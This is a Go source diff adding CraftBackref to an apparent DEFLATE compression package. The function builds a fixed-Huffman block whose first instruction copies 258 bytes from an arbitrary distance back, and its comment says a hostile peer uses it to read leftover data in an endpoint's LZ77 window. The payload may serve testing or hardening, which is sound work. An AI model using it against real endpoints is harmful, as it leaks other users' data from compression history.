@@ -232,3 +232,51 @@ func deflateOnce(p []byte, v DeflateVariant, hist []byte) []byte {
 	}
 	return append([]byte(nil), out[:len(out)-4]...)
 }
+
+// CraftBackref returns a compressed-message payload (fixed-Huffman DEFLATE
+// block, no tail) whose very first instruction is "copy 258 bytes from
+// `distance` bytes back", followed by end-of-block. Inflated with a window that
+// holds at least `distance` bytes of history it yields 258 bytes of that
+// history; with less history it is malformed ("distance too far back"). A
+// hostile peer uses it to read whatever an endpoint's LZ77 window still holds.
+func CraftBackref(distance int) []byte {
+	var out []byte
+	var acc uint64
+	var nbits uint
+	put := func(v uint64, n uint) { // LSB-first packing
+		acc |= v << nbits
+		nbits += n
+		for nbits >= 8 {
+			out = append(out, byte(acc))
+			acc >>= 8
+			nbits -= 8
+		}
+	}
+	putHuff := func(code uint64, n uint) { // Huffman codes go in MSB-first
+		for i := int(n) - 1; i >= 0; i-- {
+			put((code>>uint(i))&1, 1)
+		}
+	}
+	put(0, 1)                        // BFINAL = 0
+	put(1, 2)                        // BTYPE = 01 (fixed Huffman)
+	putHuff(0b11000000+(285-280), 8) // length symbol 285 = 258 bytes, no extra bits
+	base := []int{1, 2, 3, 4, 5, 7, 9, 13, 17, 25, 33, 49, 65, 97, 129, 193, 257, 385, 513, 769, 1025, 1537, 2049, 3073, 4097, 6145, 8193, 12289, 16385, 24577}
+	extra := []uint{0, 0, 0, 0, 1, 1, 2, 2, 3, 3, 4, 4, 5, 5, 6, 6, 7, 7, 8, 8, 9, 9, 10, 10, 11, 11, 12, 12, 13, 13}
+	code := 0
+	for i := range base {
+		if distance >= base[i] {
+			code = i
+		}
+	}
+	putHuff(uint64(code), 5)
+	put(uint64(distance-base[code]), extra[code])
+	putHuff(0, 7) // end of block (symbol 256)
+	// like a sync flush: header of an empty stored block, padded to the byte
+	// boundary; its LEN/NLEN (00 00 ff ff) is the tail the receiver appends
+	put(0, 1)
+	put(0, 2)
+	if nbits > 0 {
+		out = append(out, byte(acc))
+	}
+	return out
+}
